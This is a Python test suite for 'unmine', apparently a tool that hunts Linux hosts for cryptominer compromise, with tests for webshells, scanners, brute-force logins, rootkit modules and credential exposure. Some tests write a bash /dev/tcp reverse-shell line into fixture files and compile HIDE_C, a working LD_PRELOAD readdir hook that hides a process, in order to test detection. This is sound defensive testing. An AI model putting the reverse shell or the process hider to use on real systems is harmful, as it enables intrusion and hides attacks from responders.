"""unmine hunt end to end: fixture roots holding each kind, a clean Debian-like root, the compromise
window, a journal made here for the brute-force case, and a process hidden by an LD_PRELOAD readdir hook."""
import calendar
import gzip
import json
import os
import shutil
import sqlite3
import subprocess
import tempfile
import time
import unittest

from harness import (FIXTURES, MONERO_WALLET, Miner, StratumServer, copy_fixture, main, temp_case, unmine, validate_schema)

SECRETS = ["AKIAFIXTURESECRET001", "fixtureSecretDoNotPrint", "Zml4dHVyZVNlY3JldERvTm90UHJpbnQ"]
JOURNAL_REMOTE = "/lib/systemd/systemd-journal-remote"


def fixture(name):
    return os.path.join(FIXTURES, "hosts", name)


def hunt(root, *extra, case=None, env=None, proc=None):
    case = case or temp_case()
    args = ["--root", root]
    if proc:
        args += ["--proc", proc]
    r = unmine(*args, "--json", "hunt", *extra, case=case, env=env, timeout=300)
    return r, case


def kinds(doc):
    out = {}
    for f in doc["findings"]:
        out.setdefault(f["kind"], []).append(f)
    return out


def by_path(doc):
    out = {}
    for f in doc["findings"]:
        out.setdefault(f.get("path", ""), set()).add(f["kind"])
    return out


class CleanRoot(unittest.TestCase):
    def test_clean_debian_root_has_nothing_above_info(self):
        r, case = hunt(fixture("hunt-clean"))
        self.assertEqual(r.rc, 0, r)
        validate_schema(r.json, "hunt")
        above = [f for f in r.json["findings"] if f["severity"] != "info"]
        self.assertEqual(above, [])
        self.assertEqual(r.json["window"]["basis"], "default")
        self.assertIn("last 7 days", r.stderr)
        self.assertEqual(r.json["summary"]["highest"], "info")

    def test_other_case_folders_are_not_entered(self):
        # A responder's earlier case on the host holds the miners it preserved: hunting it again would
        # report the evidence as the attack. It is told apart by its database's header, not its name.
        root = copy_fixture("hunt-clean")
        self.addCleanup(shutil.rmtree, root, True)
        old_case = os.path.join(root, "tmp", "old-case")
        self.assertEqual(unmine("--root", root, "validate", case=old_case).rc, 0)
        shell = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
        for d in (os.path.join(old_case, "evidence"), os.path.join(root, "tmp", "decoy")):
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, "x.sh"), "w") as f:
                f.write(shell)
        # A folder that only borrows the name case.db is entered.
        with open(os.path.join(root, "tmp", "decoy", "case.db"), "w") as f:
            f.write("SQLite format 3\0" + "\0" * 100)
        r, case = hunt(root)
        self.addCleanup(shutil.rmtree, case, True)
        validate_schema(r.json, "hunt")
        paths = {f.get("path") for f in r.json["findings"] if f["kind"] == "tool.reverse_shell"}
        self.assertIn("/tmp/decoy/x.sh", paths)
        self.assertNotIn("/tmp/old-case/evidence/x.sh", paths)
        self.assertEqual(r.json["stats"]["files"]["case_folders_skipped"], 1)
        self.assertTrue(any("/tmp/old-case" in n and "unmine case" in n for n in r.json["notes"]), r.json["notes"])

    def test_text_output_says_the_default_window(self):
        r = unmine("--root", fixture("hunt-clean"), "hunt", case=temp_case())
        self.assertEqual(r.rc, 0, r)
        self.assertIn("default, the last 7 days", r.stdout)
        self.assertIn("nothing above info", r.stdout)

    def test_bad_since_is_a_usage_error(self):
        r, _ = hunt(fixture("hunt-clean"), "--since", "yesterday")
        self.assertEqual(r.rc, 2, r)
        self.assertIn("error", r.json)


class Tooling(unittest.TestCase):
    def test_each_kind_of_tooling(self):
        r, case = hunt(fixture("hunt-tooling"))
        self.assertEqual(r.rc, 13, r)
        validate_schema(r.json, "hunt")
        p = by_path(r.json)
        self.assertIn("tool.scanner", p["/tmp/.x/masscan"])
        self.assertIn("tool.scanner", p["/opt/tools/kworker"])  # renamed masscan, by content
        self.assertIn("tool.renamed_system_tool", p["/tmp/.x/ct"])
        self.assertIn("tool.webshell", p["/srv/app/public/.cache.php"])  # root parsed from nginx config
        self.assertIn("tool.webshell", p["/var/www/html/shell.jsp"])
        self.assertIn("tool.reverse_shell", p["/tmp/rs.sh"])
        self.assertIn("tool.reverse_shell", p["/dev/shm/.r/p.py"])
        self.assertIn("tool.reverse_shell", p["/var/tmp/.ICE/nc.sh"])
        self.assertIn("tool.reverse_shell", p["/tmp/d.sh"])
        self.assertIn("tool.ssh_spreader", p["/var/tmp/.ssh-spread.sh"])
        self.assertIn("tool.rival_killer", p["/tmp/k.sh"])
        self.assertIn("tool.agent_uninstaller", p["/tmp/k.sh"])
        self.assertIn("file.new_binary", p["/opt/app/bin/helper"])
        self.assertIn("file.package_modified", p["/usr/bin/ps"])
        self.assertNotIn("/usr/bin/ls", p)
        yara = [f for f in r.json["findings"] if "rule" in f["evidence"]]
        self.assertTrue(all(f["evidence"]["rule"] for f in yara))
        # Recorded into the case, with this step.
        db = sqlite3.connect(os.path.join(case, "case.db"))
        n = db.execute("SELECT count(*) FROM findings WHERE kind='tool.webshell'").fetchone()[0]
        step = db.execute("SELECT step, status, exit_code FROM steps ORDER BY id DESC LIMIT 1").fetchone()
        db.close()
        self.assertEqual(n, 2)
        self.assertEqual(step, ("hunt", "done", 13))

    def test_hot_folders_are_scanned_whatever_the_window(self):
        root = copy_fixture("hunt-tooling")
        try:
            future = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 3600))
            r, _ = hunt(root, "--since", future)
            self.assertEqual(r.json["window"]["basis"], "since")
            p = by_path(r.json)
            self.assertIn("tool.webshell", p["/srv/app/public/.cache.php"])
            self.assertIn("tool.reverse_shell", p["/tmp/rs.sh"])
            self.assertNotIn("/opt/app/bin/helper", p)  # not hot, outside the window
            self.assertNotIn("file.new_binary", p.get("/tmp/rs.sh", set()))
        finally:
            shutil.rmtree(root)

    def test_backdated_new_binary_is_timestomped(self):
        root = copy_fixture("hunt-tooling")
        try:
            old = calendar.timegm((2019, 3, 1, 0, 0, 0))
            os.utime(os.path.join(root, "tmp/.x/ct"), (old, old))
            r, _ = hunt(root)
            p = by_path(r.json)
            self.assertIn("file.timestomped", p["/tmp/.x/ct"])
            f = [x for x in r.json["findings"] if x["kind"] == "file.timestomped"][0]
            self.assertEqual(f["group"], "hiding")
            self.assertGreater(f["evidence"]["gap_seconds"], 86400 * 365)
        finally:
            shutil.rmtree(root)


class Hiding(unittest.TestCase):
    def test_preload_bind_mount_modules_and_cpu_gap(self):
        r, _ = hunt(fixture("hunt-hiding"))
        self.assertEqual(r.rc, 13, r)
        validate_schema(r.json, "hunt")
        k = kinds(r.json)
        self.assertEqual(k["ld_preload"][0]["evidence"]["library"], "/usr/lib/x86_64-linux-gnu/libprocesshider.so")
        self.assertEqual(k["ld_preload"][0]["group"], "hiding")
        self.assertEqual(k["process.hidden"][0]["path"], "/proc/4242")
        self.assertEqual(k["kernel.rootkit_module"][0]["evidence"]["module"], "diamorphine")
        self.assertEqual(k["kernel.module_unknown"][0]["evidence"]["module"], "evil_net")
        self.assertEqual(k["kernel.module_hidden"][0]["evidence"]["module"], "hidden_lkm")
        self.assertEqual(k["process.cpu_unaccounted"][0]["severity"], "medium")
        self.assertIn("hidden-PID sweep skipped", " ".join(r.json["notes"]))

    def test_process_hidden_by_a_readdir_hook_is_found_by_the_sweep(self):
        cc = "/usr/bin/cc"
        if not os.path.exists(cc):
            self.skipTest("no C compiler to build the LD_PRELOAD library")
        work = tempfile.mkdtemp(prefix=f"unmine-hide-{os.getpid()}-")
        src = os.path.join(work, "hide.c")
        lib = os.path.join(work, "libhide.so")
        with open(src, "w") as f:
            f.write(HIDE_C)
        subprocess.run([cc, "-shared", "-fPIC", "-O2", "-o", lib, src, "-ldl"], check=True)
        standin = os.path.join(work, "kworkerds")
        shutil.copy("/bin/sleep", standin)
        proc = subprocess.Popen([standin, "120"], stdin=subprocess.DEVNULL)
        try:
            env = {"LD_PRELOAD": lib, "UNMINE_HIDE_PID": str(proc.pid)}
            # A separate listing process with the hook does not see the stand-in; without it, it does.
            hidden_ls = subprocess.run(["/bin/ls", "/proc"], env={**os.environ, **env}, capture_output=True, text=True).stdout.split()
            plain_ls = subprocess.run(["/bin/ls", "/proc"], capture_output=True, text=True).stdout.split()
            self.assertNotIn(str(proc.pid), hidden_ls)
            self.assertIn(str(proc.pid), plain_ls)
            # unmine itself under the same hook: its listing misses the pid, the sweep does not.
            r, _ = hunt(fixture("hunt-clean"), "--no-yara", env=env, proc="/proc")
            validate_schema(r.json, "hunt")
            hidden = [f for f in r.json["findings"] if f["kind"] == "process.hidden" and f.get("pid") == proc.pid]
            self.assertEqual(len(hidden), 1, r)
            self.assertEqual(hidden[0]["evidence"]["comm"], "kworkerds")
            self.assertEqual(hidden[0]["severity"], "critical")
            self.assertEqual(r.json["stats"]["pid_sweep"]["last_pid"], 4194304)
            r2, _ = hunt(fixture("hunt-clean"), "--no-yara", proc="/proc")
            self.assertFalse([f for f in r2.json["findings"] if f["kind"] == "process.hidden" and f.get("pid") == proc.pid])
        finally:
            proc.kill()
            proc.wait()
            shutil.rmtree(work, ignore_errors=True)


HIDE_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
/* Hides one PID (UNMINE_HIDE_PID) from readdir, as userland process hiders do. */
static int hidden(const char* name) {
  const char* pid = getenv("UNMINE_HIDE_PID");
  return pid && strcmp(name, pid) == 0;
}
struct dirent* readdir(DIR* d) {
  static struct dirent* (*real)(DIR*);
  if (!real) real = dlsym(RTLD_NEXT, "readdir");
  struct dirent* e;
  while ((e = real(d)) && hidden(e->d_name)) {}
  return e;
}
struct dirent64* readdir64(DIR* d) {
  static struct dirent64* (*real)(DIR*);
  if (!real) real = dlsym(RTLD_NEXT, "readdir64");
  struct dirent64* e;
  while ((e = real(d)) && hidden(e->d_name)) {}
  return e;
}
"""


class Memory(unittest.TestCase):
    def test_a_running_miner_from_tmp_matches_in_memory(self):
        if not os.path.isdir("/proc/self"):
            self.skipTest("no live procfs")
        with StratumServer() as pool, Miner(["-o", pool.url, "-u", MONERO_WALLET], name="kswapd0", wait_pool=pool) as m:
            r, _ = hunt(fixture("hunt-clean"), "--no-pid-sweep", proc="/proc")
            validate_schema(r.json, "hunt")
            hits = [f for f in r.json["findings"] if f["kind"] == "process.memory_match" and f.get("pid") == m.pid]
            self.assertTrue(hits, r)
            self.assertEqual(hits[0]["evidence"]["rule"], "miner_stratum_login")
            self.assertEqual(hits[0]["group"], "miner")
            # Found as the incident's miner when triage names it, else for where it runs from.
            self.assertIn(hits[0]["evidence"]["why_scanned"], ("miner of this incident", "runs from a tmp folder"))


class EntryVectors(unittest.TestCase):
    def test_exposed_services_bruteforce_and_web_exploits(self):
        r, _ = hunt(fixture("hunt-entry"))
        self.assertEqual(r.rc, 13, r)
        validate_schema(r.json, "hunt")
        services = {f["evidence"].get("service") for f in kinds(r.json)["exposed.service"]}
        self.assertTrue({"docker", "redis", "jenkins", "kubernetes", "ssh"} <= services, services)
        brute = [f for f in kinds(r.json)["auth.bruteforce"] if f["severity"] == "critical"]
        self.assertEqual(len(brute), 1)
        ev = brute[0]["evidence"]
        self.assertEqual(ev["source_ip"], "203.0.113.77")
        self.assertEqual(ev["success_at"], "2026-11-20T08:25:02Z")
        self.assertIn("Accepted password for root", ev["log_line"])
        self.assertEqual(brute[0]["group"], "entry_vector")
        gz = [f for f in kinds(r.json)["auth.bruteforce"] if f.get("path") == "/var/log/auth.log.2.gz"]
        self.assertEqual(len(gz), 1)  # read through gzip
        web = {f["evidence"]["cve"]: f for f in kinds(r.json)["exposed.service"] if "cve" in f["evidence"]}
        self.assertIn("CVE-2021-44228", web)
        self.assertIn("CVE-2022-22965", web)
        self.assertIn("CVE-2022-26134", web)  # URL-encoded in the log
        self.assertEqual(web["CVE-2021-44228"]["evidence"]["at"], "2026-11-20T07:55:00Z")
        self.assertIn("${jndi:", web["CVE-2021-44228"]["evidence"]["log_line"])

    def test_bruteforce_in_a_journal_made_here(self):
        if not os.path.exists(JOURNAL_REMOTE):
            self.skipTest("systemd-journal-remote (Debian package systemd-journal-remote) is not installed")
        if not os.path.exists("/usr/bin/journalctl"):
            self.skipTest("no /usr/bin/journalctl")
        root = copy_fixture("hunt-clean")
        try:
            jdir = os.path.join(root, "var/log/journal/0123456789abcdef0123456789abcdef")
            os.makedirs(jdir)
            base = calendar.timegm((2026, 11, 19, 22, 0, 0)) * 1000000
            entries = []
            for i in range(12):
                entries.append((base + i * 1000000, f"Failed password for root from 192.0.2.66 port {41000 + i} ssh2"))
            entries.append((base + 60 * 1000000, "Accepted password for root from 192.0.2.66 port 41999 ssh2"))
            export = "".join(f"__REALTIME_TIMESTAMP={t}\n_HOSTNAME=web1\nSYSLOG_IDENTIFIER=sshd\nMESSAGE={m}\n\n" for t, m in entries)
            src = os.path.join(root, "..", f"export-{os.getpid()}.txt")
            with open(src, "w") as f:
                f.write(export)
            subprocess.run([JOURNAL_REMOTE, f"--output={jdir}/system.journal", src], check=True, capture_output=True)
            os.unlink(src)
            r, _ = hunt(root)
            brute = [f for f in r.json["findings"] if f["kind"] == "auth.bruteforce" and f["severity"] == "critical"]
            self.assertEqual(len(brute), 1, r)
            self.assertEqual(brute[0]["evidence"]["log_source"], "journal")
            self.assertEqual(brute[0]["evidence"]["success_at"], "2026-11-19T22:01:00Z")
            self.assertEqual(brute[0]["evidence"]["failures"], 12)
        finally:
            shutil.rmtree(root)


class Tampering(unittest.TestCase):
    def test_security_tools_off_and_credentials_without_their_content(self):
        r, case = hunt(fixture("hunt-tamper"))
        self.assertEqual(r.rc, 12, r)
        validate_schema(r.json, "hunt")
        t = kinds(r.json)["security_tool.tampered"]
        text = " ".join(f["summary"] for f in t)
        for what in ["Storage=none", "-e 0", "SELinux is permissive", "ufw is disabled", "nmi_watchdog", "Aegis", "YunJing"]:
            self.assertIn(what, text)
        creds = {f["path"]: f for f in kinds(r.json)["credential.exposed"]}
        self.assertEqual(set(creds), {"/root/.aws/credentials", "/root/.docker/config.json", "/root/.kube/config",
                                      "/home/bob/.ssh/id_ed25519", "/home/bob/.git-credentials"})
        for f in creds.values():
            self.assertRegex(f["evidence"]["sha256"], "^[0-9a-f]{64}$")
            self.assertIn(f["evidence"]["atime_mode"], ["noatime", "relatime", "strictatime", "unknown"])
        # Paths and hashes only: never the secrets, in the output or the case.
        with open(os.path.join(case, "case.db"), "rb") as f:
            db = f.read()
        for s in SECRETS:
            self.assertNotIn(s, r.stdout)
            self.assertNotIn(s.encode(), db)

    def test_credentials_read_in_the_window(self):
        root = copy_fixture("hunt-tamper")
        try:
            path = os.path.join(root, "root/.aws/credentials")
            st = os.stat(path)
            os.utime(path, (time.time(), st.st_mtime - 3600))  # read now, written an hour earlier
            r, _ = hunt(root)
            f = [x for x in r.json["findings"] if x.get("path") == "/root/.aws/credentials"][0]
            if f["evidence"]["atime_mode"] in ("noatime", "unknown"):
                self.skipTest(f"the test folder's mount cannot show a read by its atime (mode {f['evidence']['atime_mode']})")
            self.assertTrue(f["evidence"]["read_in_window"], f)
            self.assertEqual(f["severity"], "high")
        finally:
            shutil.rmtree(root)


class Window(unittest.TestCase):
    def test_window_starts_at_the_miners_first_sign(self):
        case = temp_case()
        r, _ = hunt(fixture("hunt-clean"), case=case)
        self.assertEqual(r.rc, 0, r)
        started = int(time.time()) - 5 * 3600
        db = sqlite3.connect(os.path.join(case, "case.db"))
        cid = db.execute("SELECT id FROM cases").fetchone()[0]
        db.execute("INSERT INTO miners(case_id, pid, exe, family, data, seen_at) VALUES(?,?,?,?,?,?)",
                   (cid, 4242, "/tmp/.x/xmrig", "xmrig",
                    json.dumps({"pid": 4242, "exe": "/tmp/.x/xmrig", "started_at": started}), "2026-01-01T00:00:00Z"))
        db.commit()
        db.close()
        r, _ = hunt(fixture("hunt-clean"), case=case)
        self.assertEqual(r.json["window"]["basis"], "incident")
        self.assertEqual(r.json["window"]["first_sign"], "miner pid 4242 started")
        self.assertEqual(r.json["window"]["start"], time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(started)))
        r, _ = hunt(fixture("hunt-clean"), "--since", "48h", case=case)
        self.assertEqual(r.json["window"]["basis"], "since")


if __name__ == "__main__":
    main()
